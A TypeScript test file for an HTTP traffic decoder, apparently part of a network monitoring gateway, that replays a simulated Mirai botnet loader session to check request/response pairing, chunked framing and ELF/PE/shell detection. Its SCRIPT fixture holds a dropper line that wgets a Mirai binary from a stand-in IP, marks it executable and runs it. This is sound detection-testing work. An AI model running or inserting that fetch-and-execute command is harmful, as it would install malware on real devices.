// The HTTP stream module: every request and response of keep-alive and pipelined connections,
// body framing (length, chunked, close), heads split anywhere, magic of each body, and its events.
import { describe, expect, it } from 'vitest';
import { BODY_HEAD_BYTES, type AppRecord, type HttpResponseRecord } from '../../gateway/app/app-record.js';
import { httpModule, MAX_HTTP_HEAD_BYTES } from '../../gateway/app/http/http-module.js';
import { ev } from '../../gateway/common/events.js';
import { chunked, chunks, collect, elfBody, ofKind, peBody, request, response, runTcp, splitAt, T0 } from './app-test-kit.js';

const SCRIPT = Buffer.from('#!/bin/sh\ncd /tmp || cd /var/run; wget http://198.51.100.7/bins/mirai.arm7; chmod +x mirai.arm7; ./mirai.arm7\n', 'latin1');

/** The Mirai loader conversation: /bins.sh, eight ELF builds, a PE, on one keep-alive connection. */
const BUILDS: ReadonlyArray<[string, Buffer, string | null]> = [
  ['/bins.sh', SCRIPT, null],
  ['/bins/mirai.arm', elfBody(0x28, true), 'arm'],
  ['/bins/mirai.mips', elfBody(0x08, false), 'mips'],
  ['/bins/mirai.mpsl', elfBody(0x08, true), 'mips'],
  ['/bins/mirai.x86', elfBody(0x03, true), 'x86'],
  ['/bins/mirai.x86_64', elfBody(0x3e, true), 'x86-64'],
  ['/bins/mirai.ppc', elfBody(0x14, false), 'ppc'],
  ['/bins/mirai.aarch64', elfBody(0xb7, true), 'aarch64'],
  ['/bins/mirai.sh4', elfBody(0x2a, true), 'sh'],
  ['/update.exe', peBody(), null],
];
const WANT_MAGIC = ['shell', 'elf', 'elf', 'elf', 'elf', 'elf', 'elf', 'elf', 'elf', 'pe'];

/** A record without its times and request link (they differ with the segments), a body-head's message too. */
function untimed(r: AppRecord): object {
  const plain = (m: object) => ({ ...m, ts: 0, request: null, startTs: 0 });
  return r.kind === 'http.body-head' ? { ...r, ts: 0, msg: plain(r.msg) } : plain(r);
}

describe('http module: a keep-alive Mirai loader', () => {
  it('10 requests and 10 responses in turn, in odd segment sizes: every one, with magic and arch', () => {
    const segs: Array<[number, Buffer]> = [];
    for (const [uri, body] of BUILDS) {
      for (const c of chunks(request('GET', uri), 23)) segs.push([0, c]);
      for (const c of chunks(response(200, { 'Content-Type': 'application/octet-stream' }, body), 97)) segs.push([1, c]);
    }
    const { recs, rets } = runTcp(httpModule, segs);
    expect(rets.every((r) => r === 0)).toBe(true);
    const reqs = ofKind(recs, 'http.request');
    const resps = ofKind(recs, 'http.response');
    expect(reqs).toHaveLength(10);
    expect(resps).toHaveLength(10);
    expect(reqs.map((r) => r.uri)).toEqual(BUILDS.map(([u]) => u));
    expect(reqs.map((r) => r.index)).toEqual([0, 1, 2, 3, 4, 5, 6, 7, 8, 9]);
    expect(resps.map((r) => r.magic)).toEqual(WANT_MAGIC);
    expect(resps.map((r) => r.elfArch)).toEqual(BUILDS.map(([, , a]) => a));
    expect(resps.map((r) => r.request?.uri)).toEqual(BUILDS.map(([u]) => u));
    expect(resps.map((r) => r.bodyLen)).toEqual(BUILDS.map(([, b]) => b.length));
    expect(resps.every((r) => !r.truncated && r.status === 200 && r.server === 'nginx/1.18.0' && r.contentType === 'application/octet-stream')).toBe(true);
    expect(resps[1]!.head).toEqual(BUILDS[1]![1].subarray(0, BODY_HEAD_BYTES));
    expect(reqs[0]).toMatchObject({ method: 'GET', host: '198.51.100.7', userAgent: 'Wget/1.20', contentLength: null, head: null, magic: null, bodyLen: 0 });
    // A response's time is when its body completed; its start when its first byte came.
    expect(resps.every((r) => r.startTs <= r.ts)).toBe(true);
  });

  it('pipelined: all requests in one feed, then all responses in one feed, paired in order', () => {
    const reqs = Buffer.concat(BUILDS.map(([u]) => request('GET', u)));
    const resps = Buffer.concat(BUILDS.map(([, b]) => response(200, {}, b)));
    const { recs } = runTcp(httpModule, [[0, reqs], [1, resps]]);
    const rs = ofKind(recs, 'http.response');
    expect(ofKind(recs, 'http.request')).toHaveLength(10);
    expect(rs.map((r) => [r.index, r.request?.index, r.request?.uri, r.magic])).toEqual(BUILDS.map(([u], i) => [i, i, u, WANT_MAGIC[i]]));
  });

  it('the ELF header split over 3 feeds is still seen', () => {
    const body = elfBody(0x28, true);
    const msg = response(200, {}, body);
    const headEnd = msg.length - body.length;
    const { recs } = runTcp(httpModule, [[0, request('GET', '/bins/mirai.arm7')], ...splitAt(msg, headEnd + 2, headEnd + 11).map((b) => [1, b] as [number, Buffer])]);
    const [r] = ofKind(recs, 'http.response');
    expect(r).toMatchObject({ magic: 'elf', elfArch: 'arm', bodyLen: body.length, truncated: false });
  });

  it('every split point of a request/response pair gives the same records', () => {
    const req = request('POST', '/upload', { 'Content-Type': 'application/x-sh' }, SCRIPT);
    const resp = response(200, { 'Transfer-Encoding': 'chunked' }, chunked(elfBody(0x08, false), 50));
    const whole = runTcp(httpModule, [[0, req], [1, resp]]).recs;
    // The request, then the response body's head as soon as it is in, then the response.
    expect(whole.map((r) => r.kind)).toEqual(['http.request', 'http.body-head', 'http.response']);
    for (const [dir, msg] of [[0, req], [1, resp]] as const) {
      for (let cut = 1; cut < msg.length; cut++) {
        const segs: Array<[number, Buffer]> = dir === 0
          ? [[0, msg.subarray(0, cut)], [0, msg.subarray(cut)], [1, resp]]
          : [[0, req], [1, msg.subarray(0, cut)], [1, msg.subarray(cut)]];
        const got = runTcp(httpModule, segs).recs.map(untimed);
        expect(got).toEqual(whole.map(untimed));
      }
    }
  });
});

describe('http module: body framing (RFC 9112 §6.3)', () => {
  it('chunked bodies, with extensions and a trailer, and a request body with magic', () => {
    const elf = elfBody(0xb7, true, 1000);
    const { recs } = runTcp(httpModule, [
      [0, request('POST', '/cgi-bin/up', { 'Transfer-Encoding': 'chunked' }, chunked(SCRIPT, 7))],
      [1, response(200, { 'Transfer-Encoding': 'chunked' }, chunked(elf, 300))],
    ]);
    const [q] = ofKind(recs, 'http.request');
    const [r] = ofKind(recs, 'http.response');
    expect(q).toMatchObject({ method: 'POST', bodyLen: SCRIPT.length, magic: 'shell', contentLength: null, truncated: false });
    expect(r).toMatchObject({ bodyLen: elf.length, magic: 'elf', elfArch: 'aarch64', truncated: false, contentLength: null });
  });

  it('chunk sizes in either case, a lone LF as line end, and a stray CRLF before the next request', () => {
    const body = Buffer.concat([Buffer.from('1A\n', 'latin1'), Buffer.alloc(26, 0x61), Buffer.from('\n0\n\n', 'latin1')]);
    const { recs, rets } = runTcp(httpModule, [
      [0, Buffer.concat([request('GET', '/a'), Buffer.from('\r\n'), request('GET', '/b')])],
      [1, Buffer.concat([response(200, { 'Transfer-Encoding': 'gzip, chunked' }, body), response(204)])],
    ]);
    expect(rets).toEqual([0, 0]);
    expect(ofKind(recs, 'http.response').map((r) => [r.request?.uri, r.status, r.bodyLen])).toEqual([['/a', 200, 26], ['/b', 204, 0]]);
  });

  it('a response without length runs to the close: complete, not truncated', () => {
    const body = elfBody(0x03, true, 5000);
    const { recs } = runTcp(httpModule, [[0, request('GET', '/x86')], [1, response(200, { Connection: 'close' }, body, true)]]);
    const [r] = ofKind(recs, 'http.response');
    expect(r).toMatchObject({ bodyLen: 5000, truncated: false, magic: 'elf', elfArch: 'x86', contentLength: null });
  });

  it('a response cut mid-body is emitted at end() as truncated', () => {
    const body = elfBody(0x28, true, 5000);
    const msg = response(200, {}, body);
    const { recs } = runTcp(httpModule, [[0, request('GET', '/bins/mirai.arm')], [1, msg.subarray(0, msg.length - 1000)]]);
    const [r] = ofKind(recs, 'http.response');
    expect(r).toMatchObject({ truncated: true, contentLength: 5000, bodyLen: 4000, magic: 'elf', elfArch: 'arm' });
    expect(r!.ts).toBe(T0 + 2);
  });

  it('HEAD, 204 and 304 have no body even with Content-Length; the next response is read right', () => {
    const { recs } = runTcp(httpModule, [
      [0, Buffer.concat([request('HEAD', '/bins/mirai.arm'), request('GET', '/a'), request('GET', '/b'), request('GET', '/c')])],
      [1, Buffer.concat([
        response(200, { 'Content-Length': '99999' }),
        response(204, { 'Content-Length': '10' }),
        response(304, { 'Content-Length': '10' }),
        response(200, {}, SCRIPT),
      ])],
    ]);
    const rs = ofKind(recs, 'http.response');
    expect(rs.map((r) => [r.request?.method, r.request?.uri, r.status, r.bodyLen, r.magic])).toEqual([
      ['HEAD', '/bins/mirai.arm', 200, 0, null], ['GET', '/a', 204, 0, null], ['GET', '/b', 304, 0, null], ['GET', '/c', 200, SCRIPT.length, 'shell'],
    ]);
  });

  it('100 Continue is interim: no record, the final response pairs with the request', () => {
    const { recs } = runTcp(httpModule, [
      [0, request('POST', '/up', { Expect: '100-continue' }, peBody())],
      [1, Buffer.concat([response(100), response(201, {}, Buffer.from('ok'))])],
    ]);
    const rs = ofKind(recs, 'http.response');
    expect(rs.map((r) => [r.status, r.request?.magic])).toEqual([[201, 'pe']]);
  });

  it('101 Switching Protocols: one record, then the module is done', () => {
    const { recs, state } = runTcp(httpModule, [
      [0, request('GET', '/ws', { Upgrade: 'websocket', Connection: 'Upgrade' })],
      [1, Buffer.concat([response(101, { Upgrade: 'websocket' }), Buffer.from([0x81, 0x05, 1, 2, 3, 4, 5])])],
      [1, Buffer.from('not http at all')],
    ], { end: false });
    expect(ofKind(recs, 'http.response').map((r) => r.status)).toEqual([101]);
    expect(state.done).toBe(true);
  });

  it('a response with no request seen pairs with null', () => {
    const { recs } = runTcp(httpModule, [[1, response(200, {}, SCRIPT)]]);
    expect(ofKind(recs, 'http.response')[0]).toMatchObject({ request: null, magic: 'shell' });
  });

  it('a gap inside a body of known length is counted out; the next message is read', () => {
    const st = httpModule.create();
    const { recs, out } = collect();
    const body = elfBody(0x28, true, 3000);
    const msg = response(200, {}, body);
    const headLen = msg.length - body.length;
    httpModule.feed(st, 0, request('GET', '/a'), 0, request('GET', '/a').length, T0, out);
    httpModule.feed(st, 1, msg, 0, headLen + 100, T0, out);
    httpModule.gap!(st, 1, 1000);
    const next = Buffer.concat([msg.subarray(headLen + 1100), response(200, {}, SCRIPT)]);
    httpModule.feed(st, 1, next, 0, next.length, T0, out);
    const rs = ofKind(recs, 'http.response');
    expect(rs.map((r) => [r.truncated, r.bodyLen, r.magic])).toEqual([[true, 2000, 'elf'], [false, SCRIPT.length, 'shell']]);
  });
});

describe('http module: bad input gives named events, never throws', () => {
  const code = (name: Parameters<typeof ev>[0]): number => -ev(name);

  it.each([
    ['a head longer than the cap', [0, Buffer.from(`GET / HTTP/1.1\r\nX: ${'a'.repeat(MAX_HTTP_HEAD_BYTES)}\r\n\r\n`)], code('decoder.http.head_too_long')],
    ['a head that never ends', [0, Buffer.from(`GET / HTTP/1.1\r\n${'X: y\r\n'.repeat(2000)}`)], code('decoder.http.head_too_long')],
    ['binary on the request side', [0, Buffer.from([0x16, 0x03, 0x01])], code('decoder.http.malformed')],
    ['a bad request line', [0, Buffer.from('GET /\r\n\r\n')], code('decoder.http.malformed')],
    ['a bad status line', [1, Buffer.from('HTTP/1.1 2OO OK\r\n\r\n')], code('decoder.http.response_malformed')],
    ['a non-HTTP answer', [1, Buffer.from('SSH-2.0-x\r\n')], code('decoder.http.response_malformed')],
    ['Content-Length not a number', [0, Buffer.from('POST / HTTP/1.1\r\nContent-Length: 1e3\r\n\r\n')], code('decoder.http.bad_content_length')],
    ['Content-Length twice, different', [0, Buffer.from('POST / HTTP/1.1\r\nContent-Length: 3\r\nContent-Length: 4\r\n\r\n')], code('decoder.http.bad_content_length')],
    ['a request coding that is not chunked', [0, Buffer.from('POST / HTTP/1.1\r\nTransfer-Encoding: gzip\r\n\r\n')], code('decoder.http.bad_transfer_encoding')],
    ['a chunk size that is not hex', [1, response(200, { 'Transfer-Encoding': 'chunked' }, Buffer.from('zz\r\n'))], code('decoder.http.bad_chunk')],
    ['chunk data without CRLF', [1, response(200, { 'Transfer-Encoding': 'chunked' }, Buffer.from('2\r\nabX'))], code('decoder.http.bad_chunk')],
    ['a chunk size too long', [1, response(200, { 'Transfer-Encoding': 'chunked' }, Buffer.from('fffffffffffffffff\r\n'))], code('decoder.http.bad_chunk')],
  ] as const)('%s', (_what, seg, want) => {
    const { rets, state } = runTcp(httpModule, [seg as [number, Buffer]], { end: false });
    expect(rets).toEqual([want]);
    expect(state.done).toBe(true);
  });

  it('identical repeated Content-Length values are one', () => {
    const { recs, rets } = runTcp(httpModule, [[0, Buffer.from('POST / HTTP/1.1\r\nContent-Length: 3, 3\r\nContent-Length: 3\r\n\r\nabc')]]);
    expect(rets).toEqual([0]);
    expect(ofKind(recs, 'http.request')[0]).toMatchObject({ contentLength: 3, bodyLen: 3 });
  });

  it('an error on one side still reports the other side in progress (truncated)', () => {
    const body = elfBody(0x28, true, 5000);
    const { recs, rets } = runTcp(httpModule, [
      [0, request('GET', '/a')],
      [1, response(200, {}, body).subarray(0, 300)],
      [0, Buffer.from('\x00\x01garbage')],
    ], { end: false });
    expect(rets[2]).toBe(-ev('decoder.http.malformed'));
    expect(ofKind(recs, 'http.response')[0]).toMatchObject({ truncated: true, magic: 'elf' } satisfies Partial<HttpResponseRecord>);
  });
});
